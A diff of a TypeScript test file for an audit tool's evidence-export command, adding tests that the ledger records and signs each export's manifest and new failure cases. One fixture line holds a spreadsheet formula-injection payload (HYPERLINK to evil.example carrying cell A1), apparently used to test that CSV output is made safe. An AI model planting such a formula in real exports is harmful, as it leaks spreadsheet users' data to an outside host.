@@ -1,13 +1,5 @@
 import { createHash } from 'node:crypto';
-import {
-  cpSync,
-  existsSync,
-  mkdirSync,
-  readdirSync,
-  readFileSync,
-  statSync,
-  writeFileSync,
-} from 'node:fs';
+import { existsSync, mkdirSync, readdirSync, readFileSync, statSync, writeFileSync } from 'node:fs';
 import { basename, join } from 'node:path';
 import { setTimeout as sleep } from 'node:timers/promises';
 import { afterEach, beforeEach, describe, expect, test } from '@jest/globals';
@@ -26,8 +18,14 @@ import {
 } from '../../support/evidence-trail.ts';
 import { WITHOUT_KEY } from '../../support/manipulated-ledgers.ts';
 import { parseCsv } from '../../support/parse-csv.ts';
-import { entriesOf, ledgerOf, newSigner } from '../../support/test-ledger.ts';
-import { type LedgerBroker, ledgerBroker, NOT_FOUND } from '../audit/ledger-broker.ts';
+import { recordedExports } from '../../support/recorded-exports.ts';
+import { entriesOf, type LedgerFolder, ledgerOf, newSigner } from '../../support/test-ledger.ts';
+import {
+  type Answers,
+  type LedgerBroker,
+  ledgerBroker,
+  NOT_FOUND,
+} from '../audit/ledger-broker.ts';
 
 const signer = newSigner();
 const EVIL = '=HYPERLINK("https://evil.example?"&A1,"Roll back")';
@@ -69,9 +67,14 @@ const trailAnswer = (grantId: string, event: object) => ({
 
 let broker: LedgerBroker;
 let out: string;
+/** A broker with this log, which records exports. */
+function serve(log: LedgerFolder, more: Answers = {}): void {
+  const files = new Map(log);
+  broker.serve(files, { ...recordedExports(files, signer), ...more });
+}
 beforeEach(async () => {
   broker = await ledgerBroker(signer.vkey);
-  broker.serve(LOG);
+  serve(LOG);
   out = join(broker.home.folder, 'evidence');
 });
 afterEach(() => broker.close());
@@ -95,7 +98,7 @@ const traces = (): readonly string[] =>
 
 test('an event that is too long for an entry is read from the trail, and is the one with this hash', async () => {
   const { long, entries, trail } = withLongEvent();
-  broker.serve(ledgerOf(entries, signer), trailAnswer(long, trail));
+  serve(ledgerOf(entries, signer), trailAnswer(long, trail));
   expect(await run()).toMatchObject({ code: 0, err: '' });
   const row = table('population').find(({ id }) => id === long);
   expect(row?.['justification']).toBe(`long ${'x'.repeat(20_000)}`);
@@ -113,8 +116,10 @@ describe('an export', () => {
       'controls.csv',
       'denials.csv',
       'exceptions.csv',
+      'exports.csv',
       'ledger',
       'manifest.json',
+      'manifest.tlog-proof',
       'orders.csv',
       'population.csv',
       'principals.csv',
@@ -169,28 +174,50 @@ describe('an export', () => {
       if (rows !== null) expect([path, parseCsv(read(path)).length - 1]).toEqual([path, rows]);
     }
     const listed = manifest.files.map(({ path }: { path: string }) => path.split('/')[0]);
-    expect(new Set([...listed, 'ledger', 'manifest.json'])).toEqual(new Set(readdirSync(out)));
+    const others = ['ledger', 'manifest.json', 'manifest.tlog-proof'];
+    expect(new Set([...listed, ...others])).toEqual(new Set(readdirSync(out)));
   });
 
-  test('of the same period is the same again, bit by bit', async () => {
+  test('of the same period has the same tables again, bit by bit', async () => {
     await run('--sample', '3', '--seed', 'x');
-    const first = join(broker.home.folder, 'first');
-    cpSync(out, first, { recursive: true });
+    const first = out;
     out = join(broker.home.folder, 'evidence-again');
     await run('--sample', '3', '--seed', 'x');
-    for (const file of readdirSync(first, { recursive: true, withFileTypes: true })) {
-      if (!file.isFile()) continue;
-      const path = join(file.parentPath, file.name);
-      expect([path, read(path.slice(first.length + 1))]).toEqual([
-        path,
-        readFileSync(path, 'utf8'),
-      ]);
+    const tables = readdirSync(first).filter((name) => name.endsWith('.csv'));
+    expect(tables).toHaveLength(12);
+    for (const name of tables.filter((name) => name !== 'controls.csv')) {
+      expect([name, read(name)]).toEqual([name, readFileSync(join(first, name), 'utf8')]);
     }
+  });
+
+  test('is recorded by the ledger, which signs its manifest so', async () => {
+    await run();
+    const hash = sha256(read('manifest.json'));
+    const request = broker.server.requests.find(({ line }) => line.startsWith('POST'));
+    const { size, checkpoint } = JSON.parse(read('manifest.json')).ledger;
+    expect(request?.body).toEqual({
+      ...{ from: '2026-11-20T00:00:00.000Z', until: '2026-11-21T00:00:00.000Z' },
+      ...{ size, root: checkpoint.split('\n')[2], manifest: hash },
+    });
+    const verified = await broker.home.run(
+      ['audit', 'verify', '--from', join(out, 'manifest.tlog-proof'), '--key', signer.vkey],
+      {},
+    );
+    expect(verified).toMatchObject({ code: 0, out: expect.stringContaining(hash) });
+  });
+
+  test('is an entry of the next one', async () => {
+    await run();
+    const hash = sha256(read('manifest.json'));
+    out = join(broker.home.folder, 'evidence-again');
+    const period = ['--from', '2026-11-26', '--to', '2026-11-26'];
+    await broker.home.run(['evidence', 'export', ...period, '--out', out], broker.env);
+    expect(table('exports')).toMatchObject([{ by: BEN.id, manifest: hash, entry: '903' }]);
   });
 
   test('remembers the ledger, as every look does', async () => {
     await run();
-    broker.serve(ledgerOf(ENTRIES.slice(0, 100), signer));
+    serve(ledgerOf(ENTRIES.slice(0, 100), signer));
     out = join(broker.home.folder, 'evidence-again');
     const { code, err } = await run();
     expect({ code, traces: traces() }).toEqual({ code: 1, traces: [] });
@@ -198,7 +225,7 @@ describe('an export', () => {
   });
 
   test('of a period without grants says so', async () => {
-    broker.serve(ledgerOf(ENTRIES.slice(0, 1), signer));
+    serve(ledgerOf(ENTRIES.slice(0, 1), signer));
     const { code, out: said } = await run();
     expect(code).toBe(0);
     expect(said).toContain('No grant was requested or open in this period.');
@@ -280,35 +307,35 @@ describe('nothing is exported', () => {
   };
 
   test.each(Object.entries(WITHOUT_KEY))('of a ledger with %s', async (_, change) => {
-    broker.serve(change(LOG));
+    serve(change(LOG));
     await nothing(1, /tell your security team/);
   });
 
   test('of a ledger with a changed entry, which is named', async () => {
-    broker.serve(WITHOUT_KEY['swapped entries']?.(LOG) ?? LOG);
+    serve(WITHOUT_KEY['swapped entries']?.(LOG) ?? LOG);
     await nothing(1, /entry \d+ \(event ev_\w+ of grant gr_\w+\) was changed after it was signed/);
   });
 
   test('of a ledger with digests that no trail explains', async () => {
     const digests = EVENTS.map((event) => entryOf(event, 'digests').bytes);
-    broker.serve(ledgerOf(digests, signer));
+    serve(ledgerOf(digests, signer));
     await nothing(1, /Entry 0 of the ledger of .* has only the SHA-256 of event ev_\w+/);
   });
 
   test('of a ledger with a digest whose event was changed in the trail', async () => {
     const { long, entries, trail } = withLongEvent();
-    broker.serve(ledgerOf(entries, signer), trailAnswer(long, { ...trail, entitlement: 'other' }));
+    serve(ledgerOf(entries, signer), trailAnswer(long, { ...trail, entitlement: 'other' }));
     await nothing(1, /has only the SHA-256 of event ev_\w+/);
   });
 
   test('of a ledger that is newer than the command', async () => {
-    broker.serve(ledgerOf([Buffer.from('{"v":1,"type":"teleported","id":"x"}')], signer));
+    serve(ledgerOf([Buffer.from('{"v":1,"type":"teleported","id":"x"}')], signer));
     await nothing(1, /does not know: type teleported.\n.*update valetkey/);
   });
 
   test('of a ledger whose entries are no events', async () => {
     const text = Buffer.from(entriesOf(1)[0] ?? []).toString();
-    broker.serve(ledgerOf([Buffer.from(text.replace('"actor"', '"actress"'))], signer));
+    serve(ledgerOf([Buffer.from(text.replace('"actor"', '"actress"'))], signer));
     await nothing(1, /Entry 0 .* is signed, but it is no event: its actor/);
   });
 
@@ -323,12 +350,38 @@ describe('nothing is exported', () => {
       headers: { 'content-type': 'application/problem+json' },
       body: { type: 't', title: 't', status: 403, detail: 'You need permission to audit.' },
     };
-    broker.serve(LOG, { 'GET /v1/audit/ledger/checkpoint': forbidden });
+    serve(LOG, { 'GET /v1/audit/ledger/checkpoint': forbidden });
     await nothing(4, /takes the right to audit/);
   });
 
+  test('that the broker does not record', async () => {
+    const full = { ...NOT_FOUND, status: 400 };
+    serve(LOG, { 'POST /v1/audit/exports': full });
+    await nothing(2, /There is no such file/);
+  });
+
+  test('whose record is of something else', async () => {
+    const other = { id: 'ev_1', type: 'evidence-exported', manifest: 'ab' };
+    serve(LOG, { 'POST /v1/audit/exports': { status: 201, body: other } });
+    await nothing(1, /recorded another export than this one/);
+  });
+
+  test('whose record is not what the ledger has', async () => {
+    const files = new Map(LOG);
+    const answers = recordedExports(files, signer);
+    const record = answers['POST /v1/audit/exports'];
+    broker.serve(files, {
+      ...answers,
+      'POST /v1/audit/exports': (body) => {
+        const { status, body: event } = typeof record === 'function' ? record(body) : {};
+        return { status: status ?? 500, body: { ...(event as object), reason: 'changed' } };
+      },
+    });
+    await nothing(1, /The record of this export, event ev_export01, is not what the proof/);
+  });
+
   test('while there is no checkpoint', async () => {
-    broker.serve(new Map(), { 'GET /v1/audit/ledger/checkpoint': NOT_FOUND });
+    serve(new Map(), { 'GET /v1/audit/ledger/checkpoint': NOT_FOUND });
     await nothing(1, /has no checkpoint/);
   });
 
@@ -378,7 +431,7 @@ describe('the folder', () => {
 
   test('of an export that was stopped says that it is incomplete', async () => {
     const tile = 'GET /v1/audit/ledger/tile/entries/001';
-    broker.serve(LOG, { [tile]: { delayMs: 3_600_000 } });
+    serve(LOG, { [tile]: { delayMs: 3_600_000 } });
     const running = broker.home.start(
       ['evidence', 'export', '--from', '2026-11-20', '--to', '2026-11-20', '--out', out],
       broker.env,
